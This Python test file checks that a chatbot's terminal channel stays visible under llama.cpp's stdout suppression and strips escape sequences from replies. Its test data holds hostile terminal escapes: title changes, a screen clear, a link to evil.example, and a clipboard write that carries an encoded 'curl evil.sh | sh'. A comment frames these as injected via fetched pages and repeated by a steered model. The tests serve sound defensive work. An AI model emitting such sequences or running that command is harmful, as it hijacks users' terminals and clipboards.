"""The terminal conversation stays visible while a library silences stdout (llama.cpp does while loading)."""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

import bicameral
from bicameral.channels.terminal import CHAT, TerminalChannel
from bicameral.events import EditText, React, SendFile, SendText

_PROBE = """
import asyncio
from llama_cpp._utils import suppress_stdout_stderr
from bicameral.channels.terminal import TerminalChannel
from bicameral.events import SendText

async def main():
    terminal = TerminalChannel(bot_name="bicameral")
    with suppress_stdout_stderr(disable=False):  # what Llama(verbose=False) does around a load, process-wide
        print("swallowed by the library's redirect")
        await terminal.perform(SendText(chat="terminal:local", text="still visible"))

asyncio.run(main())
"""


def test_replies_reach_the_terminal_while_the_local_model_silences_stdout():
    pytest.importorskip("llama_cpp")
    env = {"PYTHONPATH": str(Path(bicameral.__file__).parents[1]), "PATH": "/usr/bin:/bin", "NO_COLOR": "1"}
    done = subprocess.run([sys.executable, "-c", _PROBE], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "still visible" in done.stdout
    assert "swallowed" not in done.stdout  # the redirect really was in force


# A fetched page can carry these, and a steered model repeats them: a title, a clipboard write, a clear,
# cursor moves, a hyperlink, a reset, charsets, a DCS string, the 8-bit forms, a CR that overwrites a line.
ESCAPES = (
    "\x1b]0;pwned title\x07", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\", "\x1b[2J", "\x1b[H", "\x1b[10;5H",
    "\x1b[1A\x1b[2K", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1bc", "\x1b(0", "\x1bP+q544e\x1b\\",
    "\x9b2J", "\x9d0;eight-bit title\x9c", "\x07", "\x08\x08", "\rOVERWRITTEN",
)


def _terminal() -> tuple[TerminalChannel, io.StringIO]:
    out = io.StringIO()
    return TerminalChannel(console=Console(file=out, width=200, color_system=None), bot_name="bicameral"), out


async def test_escape_sequences_in_a_reply_never_reach_the_terminal():
    terminal, out = _terminal()
    text = "Here is the page:\n" + "".join(f"part{n} {seq} " for n, seq in enumerate(ESCAPES)) + "\n\tdone"
    await terminal.perform(SendText(chat=CHAT, text=text))
    await terminal.perform(EditText(chat=CHAT, message_id="1", text=text))
    await terminal.perform(React(chat=CHAT, message_id="1\x1b[2J", emoji="\x1b]0;t\x07👍"))
    await terminal.perform(SendFile(chat=CHAT, path="a\x1b[2J.txt", kind="document", caption="[bold]x\x1b]52;c;eA==\x07"))
    shown = out.getvalue()
    assert not set(shown) & {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)] if chr(c) not in "\n"}
    for word in ("pwned", "Y3VybCBldmlsLnNoIHwgc2g", "evil.example", "eight-bit", "544e", "eA=="):
        assert word not in shown
    assert all(f"part{n}" in shown for n in range(len(ESCAPES)))
    assert "link" in shown and "OVERWRITTEN" in shown and "done" in shown
    assert "[bold]x" in shown  # the caption's brackets shown, not read as markup


async def test_escape_sequences_in_a_streamed_local_reply_never_reach_the_terminal():
    terminal, out = _terminal()
    pieces = ["Streaming \x1b]0;pw", "ned\x07 along \x1b[", "2J and \x1b", "[H on\r", "ward\x1b]52;c;eA==\x07."]
    for piece in pieces:
        terminal.show_partial(piece)
    await terminal.perform(SendText(chat=CHAT, text="".join(pieces)))
    shown = out.getvalue()
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
    assert "Streaming" in shown and "along" in shown and "ward" in shown
    assert shown.count("Streaming") == 1  # the streamed reply is not printed a second time
